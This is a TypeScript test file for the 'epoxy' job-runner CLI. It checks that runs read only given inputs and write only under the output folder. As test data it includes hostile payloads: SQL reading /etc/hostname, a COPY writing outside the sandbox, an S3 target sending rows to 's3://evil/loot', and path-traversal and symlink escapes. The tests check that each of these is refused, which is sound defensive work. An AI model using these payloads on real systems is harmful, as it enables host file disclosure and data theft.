import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../../src/cli/main';
import { runJobCommand } from '../../../src/cli/run';
import type { Engine } from '../../../src/engine/engine';
import { createNodeEngine } from '../../../src/engine/node';
import type { JobDefinition, TargetSpec } from '../../../src/jobs/model';

let engine: Engine;
let trusted: Engine;
beforeAll(async () => { [engine, trusted] = await Promise.all([createNodeEngine(), createNodeEngine({ trusted: true })]); });

/** A folder with orders.csv, an out folder, and a job reading orders through a Sql step into a download target. */
function setup(sql = 'SELECT id, amount FROM input ORDER BY id', target: TargetSpec = { type: 'download', name: 'report', format: 'csv' }) {
  const root = mkdtempSync(join(tmpdir(), 'epoxy-confined-'));
  const data = join(root, 'data');
  mkdirSync(data);
  writeFileSync(join(data, 'orders.csv'), 'id,amount\n1,5\n2,7\n');
  writeFileSync(join(root, 'private.csv'), 'secret\nhunter2\n');
  const def: JobDefinition = {
    version: 1, name: 'confined', parameters: [], bookmark: 'job-bookmark-disable',
    nodes: [
      { id: 'orders', kind: 'source', source: { type: 'file', path: join(root, 'private.csv'), format: 'csv' } },
      { id: 'q', kind: 'transform', inputs: ['orders'], step: { id: 'q', kind: 'Sql', params: { sql } } },
      { id: 'out', kind: 'target', inputs: ['q'], target },
    ],
  };
  const jobFile = join(root, 'job.json');
  writeFileSync(jobFile, JSON.stringify(def));
  return { root, data, out: join(root, 'out'), jobFile };
}

/** Every file under a folder, relative paths. */
function files(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort();
}

describe('epoxy run reads only --input and catalog locations, writes only under --out (issue 14 #4)', () => {
  it("refuses a Sql step that reads a host file (issue 14: read_text('/etc/hostname') put a host file in the output)", async () => {
    const s = setup("SELECT content AS host FROM read_text('/etc/hostname')");
    const { result, text } = await runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out });
    expect(result.state).toBe('FAILED');
    expect(result.failedNode).toBe('q');
    expect(text).toContain('Error: q: The SQL calls read_text(), which reads files or URLs: a Sql step may read only its input `input`.');
    expect(text).toContain('If this is your own job and its SQL should read files, run it with --trust.');
    expect(files(s.out)).toEqual([]);
    expect(JSON.stringify(result)).not.toContain(hostname());
  });

  it("refuses COPY … TO a path (issue 14: COPY wrote outside --out)", async () => {
    const stolen = join(tmpdir(), `epoxy-stolen-${process.pid}.csv`);
    const s = setup(`COPY (SELECT * FROM input) TO '${stolen}'`);
    const { result } = await runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out });
    expect(result.state).toBe('FAILED');
    expect(result.error).toBe(`q: The SQL holds a COPY statement (COPY (SELECT * FROM input …): a Sql step is one read-only query.`);
    expect(existsSync(stolen)).toBe(false);
  });

  it('refuses a file source whose path comes only from the job file', async () => {
    const s = setup();
    await expect(runJobCommand(engine, { jobFile: s.jobFile, inputs: [], args: [], out: s.out }))
      .rejects.toThrow(`source orders reads ${join(s.root, 'private.csv')}, which is not an --input: give --input orders=PATH, or --trust for your own job`);
    expect(files(s.out)).toEqual([]);
  });

  it('runs the job on the --input it is given, writing under --out', async () => {
    const s = setup();
    const { result } = await runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out });
    expect(result.state).toBe('SUCCEEDED');
    expect(files(s.out)).toEqual(['report/part-00000.csv']);
    expect(readFileSync(join(s.out, 'report/part-00000.csv'), 'utf8')).toBe('id,amount\n1,5\n2,7\n');
  });

  it('refuses an S3 target (PUT URLs in the job file send rows over the network) without --trust', async () => {
    const s = setup(undefined, { type: 's3', format: 'csv', location: 's3://evil/loot', putUrls: 'http://127.0.0.1:9/evil/loot/part-00000.csv?X-Amz-Signature=x' });
    await expect(runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out }))
      .rejects.toThrow('target out sends its rows over the network to s3://evil/loot (PUT URLs in the job file): run with --trust if this is your own job');
  });

  it('keeps targets under --out: .. is refused, an absolute path lands inside --out', async () => {
    const up = setup(undefined, { type: 'workspace', path: '../escaped', format: 'csv' });
    const { result } = await runJobCommand(engine, { jobFile: up.jobFile, inputs: [`orders=${up.data}`], args: [], out: up.out });
    expect(result.state).toBe('FAILED');
    expect(result.error).toMatch(/^out: invalid target path \.\.\/escaped: a target writes to a folder under --out/);
    expect(existsSync(join(up.root, 'escaped'))).toBe(false);
    const abs = setup(undefined, { type: 'workspace', path: join(tmpdir(), 'epoxy-abs-target'), format: 'csv' });
    const ok = await runJobCommand(engine, { jobFile: abs.jobFile, inputs: [`orders=${abs.data}`], args: [], out: abs.out });
    expect(ok.result.state).toBe('SUCCEEDED');
    const inside = join(tmpdir(), 'epoxy-abs-target').slice(1);
    expect(files(abs.out)).toEqual([`${inside}/_epoxy_v1/_SUCCESS`, expect.stringMatching(new RegExp(`^${inside}/_epoxy_v1/part-00000-[0-9a-f]{12}\\.csv$`))]);
  });

  it('refuses to write (or clear) a target reached through a symbolic link under --out', async () => {
    const s = setup(undefined, { type: 'workspace', path: 'lake/orders', format: 'csv' });
    const victim = join(s.root, 'victim');
    mkdirSync(join(victim, 'orders'), { recursive: true });
    writeFileSync(join(victim, 'orders', 'keep.txt'), 'mine');
    mkdirSync(s.out);
    symlinkSync(victim, join(s.out, 'lake'));
    const { result } = await runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out });
    expect(result.state).toBe('FAILED');
    expect(result.error).toBe(`out: ${join(s.out, 'lake')} is a symbolic link; a target writes only into real folders under --out`);
    expect(readdirSync(join(victim, 'orders'))).toEqual(['keep.txt']);
  });

  it('--trust lifts the rules for your own job: its own paths and SQL that reads a file', async () => {
    const s = setup();
    const extra = join(s.root, 'rates.csv');
    writeFileSync(extra, 'id,rate\n1,2\n2,3\n');
    const def = JSON.parse(readFileSync(s.jobFile, 'utf8')) as JobDefinition;
    const q = def.nodes[1]!;
    if (q.kind === 'transform' && q.step.kind === 'Sql') q.step.params.sql = `SELECT i.secret, r.rate FROM input i, read_csv('${extra}') r WHERE r.id = 1`;
    writeFileSync(s.jobFile, JSON.stringify(def));
    const { result } = await runJobCommand(trusted, { jobFile: s.jobFile, inputs: [], args: [], out: s.out, trust: true });
    expect(result.error).toBeUndefined();
    expect(readFileSync(join(s.out, 'report/part-00000.csv'), 'utf8')).toBe('secret,rate\nhunter2,2\n');
  });

  it('reads a catalog table from its location without --input, and nothing outside it', async () => {
    const s = setup(undefined, { type: 'workspace', path: 'lake/orders', format: 'csv', database: 'lake', table: 'orders' });
    const catalogFile = join(s.root, 'catalog.json');
    expect((await runJobCommand(engine, { jobFile: s.jobFile, inputs: [`orders=${s.data}`], args: [], out: s.out, catalogFile })).result.state).toBe('SUCCEEDED');
    const def: JobDefinition = {
      version: 1, name: 'from_catalog', parameters: [], bookmark: 'job-bookmark-disable',
      nodes: [
        { id: 'src', kind: 'source', source: { type: 'catalog', database: 'lake', table: 'orders' } },
        { id: 'n', kind: 'transform', inputs: ['src'], step: { id: 'n', kind: 'Sql', params: { sql: 'SELECT count(*) AS n FROM input' } } },
        { id: 'res', kind: 'target', inputs: ['n'], target: { type: 'download', name: 'count', format: 'csv' } },
      ],
    };
    const jobFile = join(s.root, 'from-catalog.json');
    writeFileSync(jobFile, JSON.stringify(def));
    const { result } = await runJobCommand(engine, { jobFile, inputs: [], args: [], out: join(s.root, 'out2'), catalogFile });
    expect(result.error).toBeUndefined();
    expect(readFileSync(join(s.root, 'out2', 'count/part-00000.csv'), 'utf8')).toBe('n\n2\n');
  });

  it('documents --trust in the help text', async () => {
    const lines: string[] = [];
    const log = console.log;
    console.log = (text: string) => { lines.push(text); };
    try { expect(await main(['--help'])).toBe(0); } finally { console.log = log; }
    expect(lines.join('\n')).toMatch(/epoxy run JOB\.json .*\[--trust\]/);
    expect(lines.join('\n')).toContain('A run reads only --input paths and catalog table locations and writes only under --out');
  });
});
